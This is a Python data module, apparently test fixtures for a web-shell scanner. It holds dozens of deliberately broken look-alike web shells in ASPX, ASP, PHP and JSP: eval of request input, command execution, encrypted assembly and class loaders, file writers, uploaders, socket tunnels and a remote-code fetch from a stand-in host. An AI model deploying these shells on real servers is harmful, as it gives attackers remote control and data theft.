"""Look-alikes of web shells, none of which can run.

Each carries the words `inert look alike` where a statement has to stand, so that no compiler and no interpreter takes
it, or is cut before its end; keys, names and texts are invented.
"""

# ruff: noqa: E501  each line is a page as it stands

ASPX = {
    "jscript-item.aspx": '<%@ Page Language="Jscript"%><% inert look alike eval(Request.Item["n1"],"unsafe");%>',
    "jscript-script.aspx": '<script language="JScript" runat="server">inert look alike\n'
    'function Page_Load(){eval(Request["n1"],"unsafe");}</script>',
    "jscript-variable.aspx": '<%@ Page Language="Jscript"%><% inert look alike\nvar p = Request.Item["n1"];\n'
    'var q = p;\neval(q,"unsafe");%>',
    "jscript-escapes.aspx": '<%@ Page Language="Jscript"%><% inert look alike '
    '\\u0065\\u0076al(Request.Item["n1"], "un"+"safe");%>',
    "jscript-base64.aspx": '<%@ Page Language="Jscript"%><% inert look alike eval(System.Text.Encoding.GetEncoding(936)'
    '.GetString(System.Convert.FromBase64String("ZXZhbChSZXF1ZXN0Lkl0ZW1bIm4xIl0sInVuc2FmZSIp")),"unsafe");%>',
    "jscript-decoded.aspx": '<%@ Page Language="Jscript"%><% inert look alike var k = System.Text.Encoding.UTF8.'
    'GetString(System.Convert.FromBase64String(Request.Form["n1"])); eval(k, "unsafe");%>',
    "jscript-layer.aspx": '<%@ Page Language="Jscript"%><% inert look alike var s="cmVxdWVzdA=="; '
    'eval(eval(String.fromCharCode(82,101,113,117,101,115,116,46,73,116,101,109,91,34,110,49,34,93)),"unsafe");%>',
    "function.aspx": '<%@ Page Language="Jscript"%><% inert look alike new Function(Request["n1"])();%>',
    "process.aspx": """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
inert look alike
void Page_Load(object sender, EventArgs e) { }
string Run(string arg) {
  ProcessStartInfo psi = new ProcessStartInfo();
  psi.FileName = "c"+"md";
  psi.Arguments = "/c " + arg;
  psi.UseShellExecute = false;
  Process p = Process.Start(psi);
  return p.StandardOutput.ReadToEnd();
}
void Button_Click(object sender, System.EventArgs e) { Response.Write(Run(box1.Text)); }
</script>
<form runat="server"><asp:TextBox id="box1" runat="server" /><asp:Button OnClick="Button_Click" runat="server" /></form>""",
    "process-request.aspx": """<%@ Page Language="C#" %><script runat="server">inert look alike
protected void Page_Load(object sender, EventArgs e) {
  Process p = new Process();
  p.StartInfo.FileName = Request.Form["f"];
  p.StartInfo.Arguments = Request.Form["a"];
  p.Start();
}</script>""",
    "process-vb.aspx": """<%@ Page Language="VB" %>
<script runat="server">
inert look alike
Sub RunCmd(Src As Object, E As EventArgs)
  Dim myProcess As New Process()
  Dim info As New ProcessStartInfo(xpath.Text)
  info.UseShellExecute = False
  info.Arguments = xcmd.Text
  myProcess.StartInfo = info
  myProcess.Start()
End Sub
</script>
<form runat=server><asp:TextBox id="xpath" runat="server"/><asp:TextBox id="xcmd" runat="server"/></form>""",
    "wscript-vb.aspx": """<%@ Page Language="VB" %><% inert look alike
Dim o = Server.CreateObject("WScript.Shell")
Dim r = o.Exec("cmd.exe /c " & Request("n1"))
%>""",
    "assembly-aes.aspx": """<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%>
<% inert look alike
Session.Add("k","0123456789abcdef"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>""",
    "assembly-session.aspx": """<%@ Page Language="C#"%><% inert look alike
try { string key = "3c6e0b8a9c15224a"; string pass = "n1";
byte[] data = new RijndaelManaged().CreateDecryptor(Encoding.Default.GetBytes(key), Encoding.Default.GetBytes(key)).TransformFinalBlock(Convert.FromBase64String(Context.Request[pass]), 0, 9);
if (Context.Session["payload"] == null) { Context.Session["payload"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }
else { object o = ((Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); } } catch { } %>""",
    "assembly-xor.ashx": """<%@ WebHandler Language="C#" Class="H1" %>
inert look alike
using System; using System.Web; using System.Reflection;
public class H1 : IHttpHandler {
  public void ProcessRequest(HttpContext context) {
    byte[] b = Convert.FromBase64String(context.Request["n1"]);
    for (int i = 0; i < b.Length; i++) { b[i] = (byte)(b[i] ^ 7); }
    Assembly a = Assembly.Load(b);
    a.GetType("A").GetMethod("M").Invoke(null, null);
  }
  public bool IsReusable { get { return false; } }
}""",
    "assembly-stream.ashx": """<%@ WebHandler Language="C#" Class="H2" %>
inert look alike
public class H2 : IHttpHandler {
  public void ProcessRequest(HttpContext ctx) {
    var input = ctx.Request.InputStream;
    byte[] buffer = new byte[input.Length];
    input.Read(buffer, 0, buffer.Length);
    Assembly.Load(buffer).EntryPoint.Invoke(null, null);
  }
}""",
    "command.ashx": """<%@ WebHandler Language="C#" Class="H3" %>
inert look alike
public class H3 : IHttpHandler { public void ProcessRequest (HttpContext context) {
  HttpRequest req = context.Request; string c = req.QueryString["n1"];
  var psi = new ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true };
  using (var p = Process.Start(psi)) { context.Response.Write(p.StandardOutput.ReadToEnd()); } } }""",
    "jscript.ashx": '<%@ WebHandler Language="JScript" class="H4"%>\ninert look alike\nimport System; import System.Web;\n'
    "public class H4 implements IHttpHandler{ function IHttpHandler.ProcessRequest(context : HttpContext){"
    'context.Response.Write(eval(context.Request["n1"], "unsafe"));} }',
    "webmethod.asmx": """<%@ WebService Language="C#" Class="Svc" %>
inert look alike
public class Svc : WebService {
  [WebMethod] public string Run(string cmd) {
    Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + cmd; p.Start();
    return p.StandardOutput.ReadToEnd(); } }""",
    "webmethod-jscript.asmx": '<%@ WebService Language="JScript" class="Svc2"%>\ninert look alike\n'
    "import System; import System.Web.Services;\npublic class Svc2 extends WebService {\n"
    'WebMethodAttribute function Run(n1 : String) : String { return eval(Context.Request["n1"], "unsafe"); } }',
    "write.aspx": """<%@ Page Language="C#" %><% inert look alike
if (Request.Form["f"] != null) { System.IO.File.WriteAllText(Server.MapPath(Request.Form["f"]), Request.Form["c"]); } %>""",
    "write-bytes.aspx": """<%@ Page Language="C#" %><% inert look alike
string p = Request["path"]; byte[] b = Convert.FromBase64String(Request["data"]);
FileStream fs = new FileStream(p, FileMode.Create); fs.Write(b, 0, b.Length); fs.Close(); %>""",
    "write-streamwriter.aspx": """<%@ Page Language="VB" %><script runat="server">inert look alike
Sub Page_Load(s As Object, e As EventArgs)
 If Request("f") <> "" Then
  Dim w As New System.IO.StreamWriter(Server.MapPath(Request("f")))
  w.Write(Request("c"))
  w.Close()
 End If
End Sub</script>""",
    "upload.aspx": """<%@ Page Language="C#" %><script runat="server">inert look alike
protected void Up_Click(object s, EventArgs e) { file1.PostedFile.SaveAs(where.Value + "\\\\" + file1.FileName); }
</script><form runat="server"><asp:FileUpload id="file1" runat="server"/><input type="text" id="where" runat="server"/></form>""",
    "upload-name.aspx": """<%@ Page Language="C#" %><% inert look alike
HttpPostedFile f = Request.Files[0]; f.SaveAs(Server.MapPath(".") + "/" + f.FileName); %>""",
    "deserialize.aspx": '<%@ Page Language="C#" %><% inert look alike new System.Web.UI.LosFormatter().Deserialize(Request.Form["n1"]); %>',
    "deserialize-body.ashx": """<%@ WebHandler Language="C#" Class="D" %>
inert look alike
public class D : IHttpHandler { public void ProcessRequest(HttpContext c) {
 var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter(); f.Deserialize(c.Request.InputStream); } }""",
    "xslt.aspx": """<%@ Page Language="C#" %><% inert look alike
string xml = Request["n1"]; XmlDocument d = new XmlDocument(); d.LoadXml("<root>1</root>");
XmlDocument x = new XmlDocument(); x.LoadXml(xml); XslCompiledTransform t = new XslCompiledTransform();
t.Load(x, new XsltSettings(false, true), new XmlUrlResolver()); t.Transform(d, null, new MemoryStream()); %>""",
    "compile.aspx": """<%@ Page Language="C#" %><% inert look alike
CSharpCodeProvider provider = new CSharpCodeProvider(); CompilerParameters cp = new CompilerParameters(); cp.GenerateInMemory = true;
CompilerResults cr = provider.CompileAssemblyFromSource(cp, Encoding.UTF8.GetString(Convert.FromBase64String(Request["n1"])));
cr.CompiledAssembly.CreateInstance("A"); %>""",
    "tunnel.aspx": """<%@ Page Language="C#" %><script runat="server">inert look alike
protected void Page_Load(object sender, EventArgs e) {
  String cmd = Request.QueryString.Get("cmd").ToUpper();
  if (cmd == "CONNECT") {
    String target = Request.QueryString.Get("target").ToUpper(); int port = int.Parse(Request.QueryString.Get("port"));
    IPAddress ip = IPAddress.Parse(target); System.Net.IPEndPoint remoteEP = new IPEndPoint(ip, port);
    Socket sender1 = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    sender1.Connect(remoteEP); sender1.Blocking = false; Session.Add("socket", sender1);
  } else if (cmd == "FORWARD") {
    Socket s = (Socket)Session["socket"]; int buffLen = Request.ContentLength; byte[] buff = new byte[buffLen];
    int c = 0; while ((c = Request.InputStream.Read(buff, 0, buff.Length)) > 0) { s.Send(buff); }
  } }</script>""",
    "manager.aspx": """<%@ Page Language="C#" %><script runat="server">inert look alike
void Page_Load(object s, EventArgs e) {
  string dir = Request["dir"]; string file = Request["file"];
  if (Request["a"] == "del") File.Delete(file);
  if (Request["a"] == "save") { StreamWriter sw = new StreamWriter(file); sw.Write(Request["text"]); sw.Close(); }
  if (Request["a"] == "mv") File.Move(file, Request["to"]);
  foreach (string d in Directory.GetDirectories(dir)) { Response.Write(d); }
}</script>""",
    "powershell.aspx": """<%@ Page Language="C#" %><script runat="server">inert look alike
protected void Go(object s, EventArgs e) { var shell = System.Management.Automation.PowerShell.Create(); shell.Commands.AddScript(Input.Text); var r = shell.Invoke(); }
</script><form runat=server><asp:TextBox runat="server" ID="Input" TextMode="MultiLine"/></form>""",
    "wmi.aspx": """<%@ Page Language="C#" %><% inert look alike
ManagementClass mc = new ManagementClass("Win32_Process"); object[] a = { Request["n1"], null, null, 0 }; mc.InvokeMethod("Create", a); %>""",
    "sql.aspx": """<%@ Page Language="C#" %><% inert look alike
SqlConnection c = new SqlConnection(Request["conn"]); c.Open(); SqlCommand q = new SqlCommand("exec master..xp_cmdshell '" + Request["n1"] + "'", c); q.ExecuteReader(); %>""",
    "query.aspx": """<%@ Page Language="C#" %><script runat="server">inert look alike
void Go(object s, EventArgs e) { SqlConnection c = new SqlConnection(); c.ConnectionString = conn.Text; c.Open();
 SqlDataAdapter a = new SqlDataAdapter(query.Text, c); a.Fill(new DataSet()); }</script>
<form runat=server><asp:TextBox ID="conn" runat="server"/><asp:TextBox ID="query" runat="server"/></form>""",
    "razor.cshtml": '@{ inert look alike\n var c = Request["n1"]; var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }',
    "blob.aspx": '<%@ Page Language="C#" %><% inert look alike System.Reflection.Assembly.Load(Convert.FromBase64String("'
    + "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA" * 4
    + '")).CreateInstance("X").Equals(this); %>',
    "virtualalloc.aspx": """<%@ Page Language="C#" %><script runat="server">inert look alike
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr b, Int32 c, IntPtr d);
void Page_Load(object s, EventArgs e) { byte[] sc = new byte[3] { 0x90, 0x90, 0xc3 }; IntPtr h = VirtualAlloc(IntPtr.Zero, (UIntPtr)sc.Length, 0x1000, (IntPtr)0x40);
 Marshal.Copy(sc, 0, h, sc.Length); ((Action)Marshal.GetDelegateForFunctionPointer(h, typeof(Action)))(); }</script>""",
}

ASP = {
    "execute.asp": '<% inert look alike\nexecute request("n1")%>',
    "eval.asp": '<% inert look alike\neval request("n1")%>',
    "eval-brackets.asp": '<% inert look alike : eval(request.form("n1"))%>',
    "executeglobal.asp": '<% inert look alike\nExecuteGlobal request.item("n1")%>',
    "if.asp": '<% inert look alike\nIf request("n1")<>"" Then Execute(request("n1"))%>',
    "session.asp": '<% inert look alike\nif request("n1")<>"" then session("n2")=request("n1"):end if:if session("n2")<>"" then execute session("n2")%>',
    "script.asp": '<script language=vbs runat=server>inert look alike\nexecute request("n1")</script>',
    "jscript.asp": '<%@ language = jscript %><% inert look alike; eval(Request.form("n1")+"")%>',
    "jscript-item.asp": '<script language="jscript" runat="server">inert look alike\neval(Request.Item("n1"));</script>',
    "two-steps.asp": '<% inert look alike\nSet o = Request\na = o("n1")\nb = a & ""\nexecute b%>',
    "chr.asp": '<% inert look alike\nexecute(Chr(101)&Chr(118)&Chr(97)&Chr(108)&" request("&Chr(34)&"n1"&Chr(34)&")")%>',
    "reverse.asp": '<% inert look alike\nexecute(StrReverse(")""1n""(tseuqer lave"))%>',
    "replace.asp": '<% inert look alike\nexecute(Replace("e_v_al req_uest(""n1"")","_",""))%>',
    "unescape.asp": '<% inert look alike\nexecute(unescape("eval%20request%28%22n1%22%29"))%>',
    "decoder.asp": '<% inert look alike\nFunction D(s)\nFor i = 1 To Len(s) Step 2\nD = D & Chr(CInt("&H" & Mid(s,i,2)) Xor 7)\nNext\nEnd Function\n'
    'execute D("62716661276275722661626362756362626275722762623162627562")%>',
    "scriptcontrol.asp": '<% inert look alike\nSet s = Server.CreateObject("MSScriptControl.ScriptControl")\ns.Language = "VBScript"\ns.AddObject "Response", Response\ns.ExecuteStatement(request("n1"))%>',
    "wscript.asp": """<% inert look alike
Dim oScript, szCMD
Set oScript = Server.CreateObject("WSCRIPT.SHELL")
szCMD = Request.Form(".CMD")
If (szCMD <> "") Then
  szTempFile = "C:\\" & "x.txt"
  Call oScript.Run ("cmd.exe /c " & szCMD & " > " & szTempFile, 0, True)
End If
%>""",
    "wscript-exec.asp": '<% inert look alike\nresponse.write server.createobject("wscript.shell").exec("cmd.exe /c "&request("n1")).stdout.readall%>',
    "wscript-split.asp": '<% inert look alike\nx = "wscr"&"ipt.sh"&"ell"\nSet w = CreateObject(x)\nSet e = w.Exec(Request("p") & " /c " & Request("n1"))%>',
    "object.asp": '<object runat=server id=shell1 scope=page classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>\n<% inert look alike\nresponse.write shell1.exec("cmd /c "&request("n1")).stdout.readall%>',
    "shellapp.asp": '<% inert look alike\nSet sa = Server.CreateObject("Shell.Application")\nsa.ShellExecute request("p"), request("a"), "", "open", 0%>',
    "fso.asp": """<% inert look alike
if request("t")<>"" then
set fs=server.CreateObject("scripting.filesystemobject")
set f=fs.CreateTextFile(request("p"),true)
f.Write request("t")
f.close
end if%>""",
    "fso-loop.asp": """<% inert look alike
dim objFSO, fdata, objCountFile
Set objFSO = Server.CreateObject("Scripting.FileSystemObject")
if Trim(request("syfdpath"))<>"" then
fdata = request("cyfddata")
Set objCountFile=objFSO.CreateTextFile(request("syfdpath"),True)
objCountFile.Write fdata
end if%>""",
    "adodb.asp": """<% inert look alike
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1 : s.Open
s.Write Request.BinaryRead(Request.TotalBytes)
s.SaveToFile Server.MapPath(Request.QueryString("f")), 2
%>""",
    "xmlhttp.asp": """<% inert look alike
Set x = Server.CreateObject("Microsoft.XMLHTTP")
x.Open "GET", request("u"), false : x.Send
execute x.responseText%>""",
    "class.asp": '<% inert look alike\nClass C\nPrivate Sub Class_Initialize\nexecute t\nEnd Sub\nPublic Property Let v(x)\nt = x\nEnd Property\nEnd Class\nt = request("n1")\nSet o = New C%>',
    "function.asp": '<% inert look alike\nSub Go(code)\n ExecuteGlobal code\nEnd Sub\nGo Request.Form("n1")%>',
    "mixed-case.asp": '<% inert look alike\nExEcUtE(ReQuEsT("n1"))%>',
    "binary.asp": """<% inert look alike
Function Bin2Str(b)
 For i = 1 To LenB(b)
  Bin2Str = Bin2Str & Chr(AscB(MidB(b, i, 1)))
 Next
End Function
body = Bin2Str(Request.BinaryRead(Request.TotalBytes))
execute(body)%>""",
    "manager.asp": """<% inert look alike
Set fso = Server.CreateObject("Scripting.FileSystemObject")
p = Request("path")
Select Case Request("act")
Case "del" : fso.DeleteFile p
Case "show" : Set t = fso.OpenTextFile(p, 1) : Response.Write t.ReadAll
Case "save" : Set t = fso.CreateTextFile(p) : t.Write Request("text")
Case "list" : Set d = fso.GetFolder(p)
End Select%>""",
    "web.config": """<?xml version="1.0" encoding="UTF-8"?>
<configuration><system.webServer><handlers accessPolicy="Read, Script, Write">
<add name="web_config" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" requireAccess="Write" preCondition="bitness64" />
</handlers></system.webServer></configuration>
<!-- <% inert look alike
execute request("n1") %> -->""",
    "image.cer": 'GIF89a<% inert look alike\nexecute request("n1")%>',
}

PHP = {
    "eval.php": "<?php inert look alike; @eval($_POST['n1']);?>",
    "short.php": "<? inert look alike; eval($_REQUEST[n1])?>",
    "echo.php": "<?= inert look alike (`$_GET[n1]`) ?>",
    "assert.php": "<?php inert look alike; assert($_POST['n1']);",
    "joined.php": "<?php inert look alike; $a='as'.'se'.'rt'; $a($_POST['n1']);",
    "replaced.php": "<?php inert look alike; $s = str_replace('z','','zazszszezrzt'); $s($_REQUEST['n1']);",
    "chars.php": "<?php inert look alike; $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); @$f($_POST['n1']);",
    "index.php": "<?php inert look alike; $s='abcdefghijklmnopqrstuvwxyz'; $f=$s[0].$s[18].$s[18].$s[4].$s[17].$s[19]; $f($_POST[1]);",
    "xor.php": '<?php inert look alike; $_=("\\x01"^"`").("\\x13"^"`").("\\x13"^"`").("\\x05"^"`").("\\x12"^"`").("\\x14"^"`"); $_($_POST[0]);',
    "getget.php": "<?php inert look alike; $_GET['a']($_GET['b']);",
    "create.php": "<?php inert look alike; $f = create_function('', $_POST['n1']); $f();",
    "callback.php": "<?php inert look alike; array_map('assert', array($_POST['n1']));",
    "callback2.php": "<?php inert look alike; call_user_func($_GET['f'], $_GET['x']);",
    "callback3.php": "<?php inert look alike; $e = $_REQUEST['e']; $a = array($_POST['n1'],); array_filter($a, base64_decode($e));",
    "usort.php": "<?php inert look alike; usort(...$_GET);",
    "preg.php": "<?php inert look alike; preg_replace('/.*/e', $_POST['n1'], '');",
    "preg2.php": "<?php inert look alike; preg_replace(\"/x/e\", 'eval($_POST[n1])', 'x');",
    "system.php": "<?php inert look alike; if(isset($_REQUEST['n1'])){ echo '<pre>'; $c = ($_REQUEST['n1']); system($c); }",
    "exec.php": "<?php inert look alike; exec($_GET['n1'].' 2>&1', $o); print_r($o);",
    "popen.php": "<?php inert look alike; $h = popen($_SERVER['HTTP_N1'], 'r'); echo fread($h, 9);",
    "proc.php": "<?php inert look alike; proc_open($_POST['n1'], array(), $p);",
    "function.php": "<?php inert look alike; function run($c) { if (function_exists('exec')) { exec($c, $o); } else { passthru($c); } } run($_POST['n1']);",
    "include.php": "<?php inert look alike; include($_REQUEST['n1']);",
    "input.php": "<?php inert look alike; eval(file_get_contents('php://input'));",
    "header.php": "<?php inert look alike; eval(base64_decode($_SERVER['HTTP_USER_AGENT']));",
    "layer.php": "<?php inert look alike; eval(gzinflate(base64_decode('Sy1LzNFQiQ/wDw6JVs8zVI/VtAYA')));",
    "layer2.php": "<?php inert look alike; eval(base64_decode('QGV2YWwoJF9QT1NUWydhJ10pOw=='));",
    "layer3.php": "<?php inert look alike; eval(str_rot13('@riny($_CBFG[\"n1\"]);'));",
    "aes.php": """<?php inert look alike;
@error_reporting(0); session_start(); $key="0123456789abcdef"; $_SESSION['k']=$key;
$post=file_get_contents("php://input");
if(!extension_loaded('openssl')) { $t="base64_"."decode"; $post=$t($post.""); for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i+1&15]; } }
else { $post=openssl_decrypt($post, "AES128", $key); }
$arr=explode('|',$post); $func=$arr[0]; $params=$arr[1];
class C{public function __invoke($p) {eval($p."");}}
@call_user_func(new C(),$params);""",
    "session.php": """<?php inert look alike;
function encode($D,$K){ for($i=0;$i<strlen($D);$i++) { $c = $K[$i+1&15]; $D[$i] = $D[$i]^$c; } return $D; }
$pass='n1'; $payloadName='payload'; $key='0123456789abcdef';
if (isset($_POST[$pass])){ $data=encode(base64_decode($_POST[$pass]),$key);
 if (isset($_SESSION[$payloadName])){ $payload=encode($_SESSION[$payloadName],$key); eval($payload); echo encode(@run($data),$key); }
 else { if (strpos($data,"info")!==false){ $_SESSION[$payloadName]=encode($data,$key); } } }""",
    "write.php": "<?php inert look alike; file_put_contents($_POST['f'], $_POST['c']);",
    "fwrite.php": "<?php inert look alike; $f=fopen($_GET['f'],'w'); fwrite($f, base64_decode($_POST['c']));",
    "fetch.php": "<?php inert look alike; eval(file_get_contents('http://example.invalid/x.txt'));",
    "upload.php": "<?php inert look alike; if (copy($_FILES['f']['tmp_name'], $_FILES['f']['name'])) echo 'ok'; ?><form method=post enctype=multipart/form-data><input type=file name=f></form>",
    "upload2.php": "<?php inert look alike; move_uploaded_file($_FILES['f']['tmp_name'], $_POST['path'].'/'.$_FILES['f']['name']);",
    "globals.php": "<?php inert look alike; $x = '_P'.'OST'; eval(${$x}['n1']);",
    "globals2.php": "<?php inert look alike; $GLOBALS['z']='_POST'; @eval(${'_'.'POST'}['n1']);",
    "reflection.php": "<?php inert look alike; $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['x']);",
    "class.php": "<?php inert look alike; class A { public $c; function __destruct() { eval($this->c); } } $o = new A; $o->c = $_POST['n1'];",
    "class2.php": "<?php inert look alike; class B { function __construct($x) { assert($x); } } new B($_REQUEST['n1']);",
    "extract.php": "<?php inert look alike; @extract($_REQUEST); @die($ctime($atime));",
    "foreach.php": "<?php inert look alike; foreach ($_POST as $k => $v) { $$k = $v; } eval($code);",
    "heredoc.php": "<?php inert look alike; $c = <<<E\n$_POST[n1]\nE;\neval($c);",
    "comments.php": "<?php inert look alike; eval/*a*/(/*b*/$_POST/*c*/['n1']/*d*/);",
    "tunnel.php": """<?php inert look alike;
$target = $_SERVER['HTTP_X_TARGET']; $port = (int)$_SERVER['HTTP_X_PORT'];
$res = fsockopen($target, $port); $data = file_get_contents('php://input'); fwrite($res, $data);""",
    "manager.php": """<?php inert look alike;
$d = $_GET['d']; if ($_GET['a'] == 'rm') unlink($_GET['f']); if ($_GET['a'] == 'mv') rename($_GET['f'], $_GET['t']);
if ($_POST['text']) { $h = fopen($_GET['f'], 'w'); fwrite($h, $_POST['text']); } $l = opendir($d);""",
    "image.jpg": "\xff\xd8\xff\xe0JFIF\0\x01<?php inert look alike; @eval($_POST['n1']); ?>",
    "exif.php": "<?php inert look alike; $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');",
    "getenv.php": "<?php inert look alike; shell_exec(getenv('HTTP_N1'));",
    "headers.php": "<?php inert look alike; $h = getallheaders(); eval(end($h));",
    "vars.php": "<?php inert look alike; eval(end(current(get_defined_vars())));",
    "lambda.php": "<?php inert look alike; $f = function($x) { return $x; }; $g = $_COOKIE; $g[0]($g[1]);",
}

JSP = {
    "exec.jsp": '<% inert look alike; Runtime.getRuntime().exec(request.getParameter("n1")); %>',
    "exec-shown.jsp": """<%@ page import="java.util.*,java.io.*"%>
<% inert look alike;
if (request.getParameter("n1") != null) {
 Process p = Runtime.getRuntime().exec("cmd.exe /c " + request.getParameter("n1"));
 DataInputStream dis = new DataInputStream(p.getInputStream()); } %>""",
    "exec-array.jsp": '<% inert look alike; String c = request.getParameter("n1"); String[] a = new String[]{"/bin/sh", "-c", c}; Process p = Runtime.getRuntime().exec(a); %>',
    "builder.jsp": '<% inert look alike; String x = request.getHeader("n1"); ProcessBuilder b = new ProcessBuilder("sh", "-c", x); b.start(); %>',
    "builder-list.jsp": '<% inert look alike; List<String> l = new ArrayList<String>(); l.add("cmd"); l.add("/c"); l.add(request.getParameter("n1")); new ProcessBuilder(l).start(); %>',
    "reflection.jsp": """<% inert look alike; String s = request.getParameter("n1");
Class c = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101}));
java.lang.reflect.Method m = c.getMethod("getRuntime"); java.lang.reflect.Method e = c.getMethod("exec", String.class); e.invoke(m.invoke(null), s); %>""",
    "loader.jsp": """<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%! inert look alike;
class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>
<%if (request.getMethod().equals("POST")){String k="0123456789abcdef";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));
new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>""",
    "loader-session.jsp": """<%! inert look alike; String xc="0123456789abcdef"; class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);}}
public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }catch (Exception e){return null; }}
public static byte[] base64Decode(String bs) throws Exception { byte[] value = null; Class base64 = Class.forName("java.util.Base64"); Object decoder = base64.getMethod("getDecoder", null).invoke(base64, null); value = (byte[])decoder.getClass().getMethod("decode", new Class[] { String.class }).invoke(decoder, new Object[] { bs }); return value; }%>
<% try{byte[] data=base64Decode(request.getParameter("n1"));data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}else{request.setAttribute("parameters",data);Object f=((Class)session.getAttribute("payload")).newInstance();f.equals(pageContext);} }catch (Exception e){}%>""",
    "script.jsp": '<% inert look alike; javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.eval(request.getParameter("n1")); %>',
    "url.jsp": '<% inert look alike; java.net.URLClassLoader u = new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(request.getParameter("n1"))}); u.loadClass("A").newInstance(); %>',
    "write.jsp": '<% inert look alike; if(request.getParameter("f")!=null)(new java.io.FileOutputStream(application.getRealPath("/")+request.getParameter("f"))).write(request.getParameter("t").getBytes()); %>',
    "write-stream.jsp": """<% inert look alike; String path = request.getParameter("p"); String body = request.getParameter("c");
java.io.FileWriter w = new java.io.FileWriter(path); w.write(body); w.close(); %>""",
    "write-writer.jsp": """<% inert look alike; java.io.File f = new java.io.File(request.getParameter("p")); java.io.PrintWriter o = new java.io.PrintWriter(new java.io.FileWriter(f)); o.println(request.getParameter("c")); %>""",
    "object.jsp": "<% inert look alike; new java.io.ObjectInputStream(request.getInputStream()).readObject(); %>",
    "expression.jsp": '<html>inert look alike ${"".getClass().forName(param.a).getMethod("exec","".getClass()).invoke("".getClass().forName(param.b),param.n1)} cut',
    "page.jspx": """<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet><![CDATA[ inert look alike;
String c = request.getParameter("n1"); if (c != null) { Runtime.getRuntime().exec(c); } ]]></jsp:scriptlet></jsp:root>""",
    "escapes.jsp": '<% inert look alike; \\u0052untime.get\\u0052untime().\\u0065xec(request.getParameter("n1")); %>',
    "manager.jsp": """<% inert look alike; String p = request.getParameter("p"); File f = new File(p); if ("d".equals(request.getParameter("a"))) f.delete();
if ("l".equals(request.getParameter("a"))) { File[] l = f.listFiles(); } if ("r".equals(request.getParameter("a"))) f.renameTo(new File(request.getParameter("t")));
if ("s".equals(request.getParameter("a"))) { FileOutputStream o = new FileOutputStream(f); o.write(request.getParameter("c").getBytes()); } %>""",
    "tunnel.jsp": """<% inert look alike; String cmd = request.getHeader("X-CMD"); if (cmd.compareTo("CONNECT") == 0) {
 String target = request.getHeader("X-TARGET"); int port = Integer.parseInt(request.getHeader("X-PORT"));
 SocketChannel socketChannel = SocketChannel.open(); socketChannel.connect(new InetSocketAddress(target, port)); session.setAttribute("socket", socketChannel);
} else if (cmd.compareTo("FORWARD") == 0) { SocketChannel socketChannel = (SocketChannel)session.getAttribute("socket");
 byte[] buff = new byte[9]; ServletInputStream in = request.getInputStream(); int c = in.read(buff); ByteBuffer buf = ByteBuffer.wrap(buff); socketChannel.write(buf); } %>""",
    "bcel.jsp": '<% inert look alike; new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(request.getParameter("n1")).newInstance(); %>',
    "method.jsp": """<% inert look alike; byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("n1"));
java.lang.reflect.Method d = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); d.setAccessible(true);
Class c = (Class) d.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length); c.newInstance(); %>""",
    "function.jsp": """<%! inert look alike; String run(String c) throws Exception { Process p = Runtime.getRuntime().exec(c); return ""; } %>
<%= run(request.getParameter("n1")) %>""",
}
FAMILIES = {"aspx": ASPX, "asp": ASP, "php": PHP, "jsp": JSP}
